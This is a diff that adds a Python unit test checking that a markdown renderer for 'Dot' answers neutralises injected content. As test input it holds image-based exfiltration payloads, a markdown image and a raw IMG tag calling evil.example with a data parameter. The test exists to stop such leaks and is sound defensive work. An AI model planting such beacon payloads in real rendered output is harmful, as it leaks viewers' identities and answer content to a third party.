@@ -135,3 +135,11 @@ def test_no_text_breaks_the_rendering(preview: str, summary: str, sql: str, key:
     answer = Answer("7", "c", "https://x", tables=(table,), charts=(AnswerChart(key),), sql=sql)
     assert answer_markdown(answer, {key: PNG}).endswith("Open in Dot: <https://x>")
     assert all(isinstance(value, str) for row in table_rows(table) for value in row.values())
+
+
+def test_pictures_of_others_become_links_and_what_loads_something_becomes_text() -> None:
+    """Whoever wrote into Dot's data would otherwise learn who opens the page, and what else the answer says."""
+    text = "![x](https://evil.example/?d=7) <IMG src=//evil.example> [link](https://a.example) <https://b.example> a<b"
+    assert answer_markdown(Answer(text=text, chat_id="c", url="https://dot")).partition("\n")[0] == (
+        "[x](https://evil.example/?d=7) &lt;IMG src=//evil.example> [link](https://a.example) <https://b.example> a<b"
+    )
